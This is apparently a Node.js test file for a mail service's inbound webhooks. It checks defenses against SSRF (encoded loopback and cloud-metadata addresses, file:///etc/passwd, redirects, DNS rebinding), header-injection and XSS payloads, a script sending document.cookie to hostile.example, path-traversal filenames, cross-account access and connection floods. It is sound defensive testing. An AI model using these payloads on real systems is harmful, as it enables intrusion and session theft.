/**
 * Hostile inbound mail and hostile route owners at a real service: internal servers that must not be requested, headers that must not be
 * forged, content that a browser must not execute, mail of other accounts, and floods. Counted at webhooks, at an internal server, and in
 * what another account sees.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, get as httpGet, type IncomingMessage } from 'node:http';
import { after, before, test } from 'node:test';
import { type Api, apiClient, type Credentials, type JsonObject } from '../kit/api.ts';
import { BOUNCE_DOMAIN, bounceAddresses } from '../kit/bounce-receiver.ts';
import { type FakeDns, fakeDns } from '../kit/fake-dns.ts';
import { bringMail, openInbound } from '../kit/inbound-rig.ts';
import { connectTalker } from '../kit/smtp-talker.ts';
import { type Service, startService } from '../kit/start-service.ts';
import { waitUntil } from '../kit/wait-until.ts';
import { type CaughtRequest, type WebhookCatcher, webhookCatcher } from '../kit/webhook-catcher.ts';

let dns: FakeDns;
let catcher: WebhookCatcher;
let service: Service;
let theirs: Credentials;
let other: Api;
let env: Record<string, string>;
/** An internal server that no webhook may reach, and its requests. */
const insideAsked: string[] = [];
const inside = createServer((request, response) => {
  insideAsked.push(`${request.method} ${request.url}`);
  response.end();
});

before(async () => {
  [dns, catcher] = await Promise.all([fakeDns(), webhookCatcher()]);
  await new Promise<void>((resolve) => inside.listen(catcher.port, '127.0.0.2', () => resolve()));
  env = { ...bounceAddresses, POSTRIDER_DNS_SERVERS: dns.server, POSTRIDER_WEBHOOK_ALLOW: '127.0.0.1/32' };
  service = await startService({ env });
  const { accountId, apiKey } = await service.cli('account', 'create', '--name', 'Other');
  theirs = { accountId, apiKey };
  other = apiClient(() => service.url, theirs);
  await service.cli('domain', 'add', service.live.accountId, 'shop.example', '--verified');
  await service.cli('domain', 'add', accountId, 'other.example', '--verified');
});
after(async () => {
  other?.close();
  await service?.close();
  await Promise.all([catcher?.close(), dns?.close()]);
  inside.close();
});

async function makeRoute(api: Api, match: string, path: string, rest: JsonObject = {}): Promise<JsonObject> {
  const { status, body, text } = await api.post('/inbound-routes', { match, url: `${catcher.url}/${path}`, ...rest });
  assert.equal(status, 201, text);
  return body;
}
const postedTo = (path: string): CaughtRequest[] => catcher.requests.filter((one) => one.path === `/hook/${path}`);

async function mailTo(to: string, content?: string): Promise<string> {
  const talker = await openInbound(service.inboundPort);
  const reply = await bringMail(talker, to, content);
  talker.destroy();
  return /^250 2\.0\.0 queued as (inb_\w+)/.exec(reply)?.[1] ?? assert.fail(reply);
}

test('a route URL cannot reach internal servers directly, by name, by redirect, or by DNS rebinding', async () => {
  const { port } = catcher;
  dns.zone['inside.example'] = { A: ['127.0.0.2'] };
  dns.zone['mixed.example'] = { A: ['127.0.0.1', '127.0.0.2'] };
  for (const host of [
    '127.0.0.2',
    '2130706434',
    '0x7f.0.0.2',
    '0177.0.0.2',
    '[::1]',
    '[::ffff:127.0.0.2]',
    '169.254.169.254',
    '10.0.0.1',
    '0.0.0.0',
    '[fe80::1]',
    '[fd00::1]',
    'inside.example',
    'mixed.example',
  ]) {
    const asked = { match: 'a@in.shop.example', url: `http://${host}:${port}/` };
    const { status, body } = await service.api.post('/inbound-routes', asked);
    assert.deepEqual([status, body.error?.details?.[0]?.field], [400, 'url'], host);
  }
  for (const url of [
    'file:///etc/passwd',
    'gopher://127.0.0.2/',
    `http://user:pass@127.0.0.1:${port}/`,
    'javascript:alert(1)',
  ])
    assert.equal((await service.api.post('/inbound-routes', { match: 'a@in.shop.example', url })).status, 400, url);

  dns.zone['hook.example'] = { A: ['127.0.0.1'] };
  const named = await service.api.post('/inbound-routes', {
    match: 'named@in.shop.example',
    url: `http://hook.example:${port}/hook/named`,
  });
  assert.equal(named.status, 201, named.text);
  await mailTo('named@in.shop.example');
  await waitUntil('the first message', () => postedTo('named').length === 1);
  dns.zone['hook.example'] = { A: ['127.0.0.2'] };
  await service.kill('SIGTERM');
  await service.restart({ env });
  await mailTo('named@in.shop.example');
  const deliveries = `/webhooks/${named.body.webhookId}/deliveries`;
  const [refused] = await waitUntil('the rejection', async () => {
    const list = (await service.api.get(deliveries)).body as unknown as JsonObject[];
    return list.some(({ attempts, status }) => attempts > 0 && status !== 'succeeded') && list;
  });
  assert.notEqual(refused!.status, 'succeeded');

  for (const status of [301, 302, 307, 308]) {
    catcher.answer(({ path }) =>
      path === '/hook/moved' ? { status, headers: { Location: `http://127.0.0.2:${port}/moved` } } : undefined,
    );
    await makeRoute(service.api, `moved-${status}@in.shop.example`, 'moved');
    const count = postedTo('moved').length;
    await mailTo(`moved-${status}@in.shop.example`);
    await waitUntil('the redirect', () => postedTo('moved').length > count);
  }
  catcher.answer();
  assert.deepEqual(insideAsked, []);
});

interface Fetched {
  status: number;
  raw: string[];
  headers: IncomingMessage['headers'];
  body: Buffer;
}

/** Bytes as transferred, with headers as received. */
function fetchRaw(link: string): Promise<Fetched> {
  const { pathname } = new URL(link);
  return new Promise((resolve, reject) => {
    httpGet(service.url + pathname, async (response) => {
      const { statusCode: status = 0, rawHeaders: raw, headers } = response;
      resolve({ status, raw, headers, body: Buffer.concat(await response.toArray()) });
    }).once('error', reject);
  });
}

const HOSTILE = `From: =?utf-8?q?Ann=0D=0AX-Injected:_from?= <ann@hostile.example>
To: hostile@in.shop.example
Subject: =?utf-8?q?Hello=0D=0A=0D=0AX-Injected:_subject?=
 =?utf-8?b?${Buffer.from('\r\nSet-Cookie: postrider_session=x').toString('base64')}?=
Message-ID: <=?utf-8?q?a=0D=0AX-Injected:_id?=@hostile.example>
X-Postrider-Signature: v1,forged
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<script>alert(1)</script>
--b
Content-Type: text/html; name="=?utf-8?q?page.html=22=0D=0AX-Injected:_name?="
Content-Disposition: attachment

<script>top.location = 'http://hostile.example/' + document.cookie</script>
--b
Content-Type: image/svg+xml
Content-Disposition: inline; filename*=UTF-8''%0D%0AX-Injected%3A%20file%22%3B.svg

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
--b
Content-Type: text/html
 X-Injected: type
Content-Disposition: attachment; filename="..\\..\\../../etc/cron.d/x"
Content-Id: <=?utf-8?q?a=0D=0Ab?=>

x
--b--
`.replaceAll('\n', '\r\n');

test('a message cannot set Postrider headers, and its content never executes in a browser', async () => {
  await makeRoute(service.api, 'hostile@in.shop.example', 'hostile');
  const id = await mailTo('hostile@in.shop.example', HOSTILE);
  const [posted] = await waitUntil('the event', () => postedTo('hostile').length > 0 && postedTo('hostile'));
  const names = Object.keys(posted!.headers);
  assert.deepEqual(
    names.filter((name) => /inject|cookie|postrider-signature/i.test(name)),
    [],
  );
  const { inbound, subject, from } = JSON.parse(posted!.body);
  for (const text of [
    subject,
    from,
    inbound.headerMessageId ?? '',
    ...inbound.headers.flatMap(({ name, value }: JsonObject) => [name, value]),
  ])
    assert.doesNotMatch(text, /[\r\n\0]/);
  const names2 = inbound.attachments.map(({ name }: JsonObject) => name);
  for (const name of names2) assert.doesNotMatch(name, /[\r\n\0/\\]/);
  assert.equal(names2.at(-1), 'x', 'no directories in the name');
  const links = [...inbound.attachments.map(({ url }: JsonObject) => url), inbound.rawUrl];
  assert.equal(links.length, 4);
  for (const link of links) {
    const { status, raw, headers } = await fetchRaw(link);
    assert.equal(status, 200);
    assert.deepEqual(
      raw.filter((text) => /injected|set-cookie/i.test(text) && !/^attachment;/.test(text)),
      [],
    );
    assert.match(headers['content-disposition'] ?? '', /^attachment; filename="[^"\r\n]+"/, link);
    assert.match(String(headers['content-security-policy']), /default-src 'none'.*sandbox/);
    assert.deepEqual([headers['x-content-type-options'], headers['cache-control']], ['nosniff', 'no-store']);
    assert.equal(headers['access-control-allow-origin'], undefined);
  }
  const whole = await fetchRaw(inbound.rawUrl);
  assert.equal(whole.body.toString('latin1'), HOSTILE, 'byte for byte');
  assert.equal((await service.api.get(`/inbound/${id}`)).status, 200, 'control for the next test');
});

test('excessive link reads of one account do not block the links of another', async () => {
  await makeRoute(service.api, 'slow@in.shop.example', 'slow');
  await makeRoute(other, 'fast@in.other.example', 'fast');
  const content = `Subject: x\r\n\r\n${`${'x'.repeat(998)}\r\n`.repeat(8_000)}`;
  await mailTo('slow@in.shop.example', content);
  await mailTo('fast@in.other.example', content);
  const linkOf = async (path: string): Promise<string> => {
    const [posted] = await waitUntil('the event', () => postedTo(path).length > 0 && postedTo(path));
    return service.url + new URL(JSON.parse(posted!.body).inbound.rawUrl).pathname;
  };
  const [slow, fast] = [await linkOf('slow'), await linkOf('fast')];
  const answers = await Promise.all(
    Array.from(
      { length: 60 },
      () =>
        new Promise<IncomingMessage>((resolve, reject) => {
          const asked = httpGet(slow, { agent: false }, (response) => resolve(response.pause()));
          asked.once('error', reject);
        }),
    ),
  );
  const statuses = answers.map(({ statusCode = 0 }) => statusCode);
  assert.equal(statuses.filter((one) => one === 200).length, 10);
  assert.ok(
    statuses.every((one) => [200, 429, 503].includes(one)),
    String(statuses),
  );
  const read = await fetchRaw(fast);
  assert.deepEqual([read.status, read.body.length], [200, content.length]);
  for (const response of answers) response.destroy();
  await waitUntil('capacity again', async () => (await fetchRaw(slow)).status === 200);
});

test('routes and mail of another account respond like nonexistent ones', async () => {
  const route = await makeRoute(service.api, 'mine@in.shop.example', 'mine');
  const id = await mailTo('mine@in.shop.example');
  await waitUntil('the mail', () => postedTo('mine').length === 1);
  const nothing = `inr_${'0'.repeat(21)}`;
  const wanted = { match: 'mine@in.shop.example', url: `${catcher.url}/stolen` };
  for (const [call, none] of [
    [{ method: 'GET', path: '/inbound-routes/' }, nothing],
    [{ method: 'PUT', path: '/inbound-routes/', body: wanted }, nothing],
    [{ method: 'DELETE', path: '/inbound-routes/' }, nothing],
    [{ method: 'POST', path: '/inbound-routes/', after: '/verify', body: {} }, nothing],
    [{ method: 'GET', path: '/inbound/' }, nothing.replace('inr', 'inb')],
    [{ method: 'GET', path: '/inbound/', after: '/content' }, nothing.replace('inr', 'inb')],
    [{ method: 'GET', path: '/inbound/', after: '/attachments/0' }, nothing.replace('inr', 'inb')],
  ] as const) {
    const asked = async (one: string) => {
      const { status, body } = await other.call({
        ...call,
        path: `${call.path}${one}${'after' in call ? call.after : ''}`,
      });
      return [status, body.error?.code, body.error?.message];
    };
    const own = call.path === '/inbound/' ? id : route.inboundRouteId;
    assert.deepEqual(await asked(own), await asked(none), JSON.stringify(call));
    assert.equal((await asked(own))[0], 404);
  }
  for (const path of [
    '/inbound?limit=100',
    '/inbound-routes',
    `/inbound?inboundRouteId=${route.inboundRouteId}`,
    '/events?eventType=Inbound',
  ]) {
    const { status, text } = await other.get(path);
    assert.equal(status, 200);
    assert.ok(!text.includes(id) && !text.includes(route.inboundRouteId), path);
  }
  assert.equal((await other.post('/inbound-routes', wanted)).body.error.code, 'SENDER_NOT_VERIFIED');
  for (const match of [
    '*@in.shop.example',
    '*@shop.example',
    `*@${BOUNCE_DOMAIN}`,
    `b+*@${BOUNCE_DOMAIN}`,
    '*@example',
  ])
    assert.ok((await other.post('/inbound-routes', { match, url: `${catcher.url}/stolen` })).status >= 400, match);
  await mailTo('mine@in.shop.example');
  await waitUntil('the message of the owner', () => postedTo('mine').length === 2);
  assert.equal(postedTo('stolen').length, 0);
});

test('slow clients that use all connections of one address do not block other addresses', async () => {
  const held = await Promise.all(Array.from({ length: 10 }, () => connectTalker(service.inboundPort)));
  await Promise.all(held.map((talker) => talker.reply()));
  const drip = setInterval(() => {
    for (const talker of held) talker.send('E');
  }, 50);
  const late = await connectTalker(service.inboundPort);
  assert.match(await late.reply(), /^421 /);
  const stranger = await connectTalker(service.inboundPort, { localAddress: '127.0.0.9' });
  assert.match(await stranger.reply(), /^220 /);
  await stranger.say('EHLO mx.example');
  await makeRoute(service.api, 'calm@in.shop.example', 'calm');
  assert.match(await bringMail(stranger, 'calm@in.shop.example'), /^250 /);
  clearInterval(drip);
  for (const talker of [...held, late, stranger]) talker.destroy();
  await waitUntil('capacity again', async () => {
    const talker = await connectTalker(service.inboundPort);
    const greeting = await talker.reply();
    talker.destroy();
    return /^220 /.test(greeting);
  });
});

test('repeating one recipient 10,000 times ends the session', async () => {
  await makeRoute(service.api, 'often@in.shop.example', 'often');
  const talker = await openInbound(service.inboundPort);
  talker.send(`MAIL FROM:<>\r\n${'RCPT TO:<often@in.shop.example>\r\n'.repeat(10_000)}`);
  let replies = 0;
  let last: string | undefined;
  for (let line = await talker.line(); line !== undefined; line = await talker.line()) {
    replies += 1;
    last = line;
  }
  assert.match(last!, /^421 4\.7\.0 /);
  assert.ok(replies < 300, `${replies} replies`);
  talker.destroy();
});

/** CPU seconds of the process, since the machine may be busy. */
function cpuSeconds(pid: number): number {
  const fields = readFileSync(`/proc/${pid}/stat`, 'latin1')
    .replace(/^.*\) /, '')
    .split(' ');
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

test('a flood to one account does not delay the mail of another', { timeout: 300_000 }, async () => {
  const FLOOD = 40;
  await makeRoute(service.api, 'flood@in.shop.example', 'flood');
  await makeRoute(other, 'calm@in.other.example', 'other');
  // A tenth of a second of reading each.
  const heavy = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'\r\n'.repeat(1_500_000)}`;
  const bring = async (): Promise<void> => {
    const talker = await openInbound(service.inboundPort);
    for (let index = 0; index < FLOOD / 4; index += 1)
      assert.match(await bringMail(talker, 'flood@in.shop.example', heavy), /^250 /);
    talker.destroy();
  };
  await Promise.all(Array.from({ length: 4 }, bring));
  await mailTo('calm@in.other.example');
  const began = cpuSeconds(service.pid);
  await waitUntil('the message of the other account', () => postedTo('other').length === 1, 100_000);
  const used = cpuSeconds(service.pid) - began;
  const left = FLOOD - postedTo('flood').length;
  assert.ok(left > FLOOD / 4, `the flood is still there: ${left} are left`);
  assert.ok(used < 1, `${used} s of work came before it`);
  await waitUntil('the flood to end', () => postedTo('flood').length === FLOOD, 200_000);
});

test('large mail from a domain with unresponsive DNS does not delay reports or other mail', {
  timeout: 300_000,
}, async () => {
  dns.zone['silent.example'] = { fail: 'timeout' };
  await makeRoute(service.api, 'silent@in.shop.example', 'silent');
  await makeRoute(other, 'quick@in.other.example', 'quick');
  const large = `${'x'.repeat(998)}\r\n`.repeat(20_000);
  const bring = async (): Promise<void> => {
    const talker = await openInbound(service.inboundPort);
    await talker.say('EHLO silent.example');
    assert.match(await bringMail(talker, 'silent@in.shop.example', `\r\n${large}`), /^250 /);
    talker.destroy();
  };
  await Promise.all(Array.from({ length: 4 }, bring));
  const readReports = async (): Promise<boolean> =>
    /^postrider_inbound_reports_total\{result="not-a-report"\} 1$/m.test((await service.api.get('/metrics')).text);
  await Promise.all([mailTo('quick@in.other.example'), mailTo(`abuse@${BOUNCE_DOMAIN}`)]);
  await waitUntil('the message of the other account', () => postedTo('quick').length === 1, 100_000);
  await waitUntil('the message to abuse', readReports, 100_000);
  assert.ok(postedTo('silent').length < 3, `${postedTo('silent').length} of 4 came first`);
  await waitUntil('all of the large ones', () => postedTo('silent').length === 4, 200_000);
});
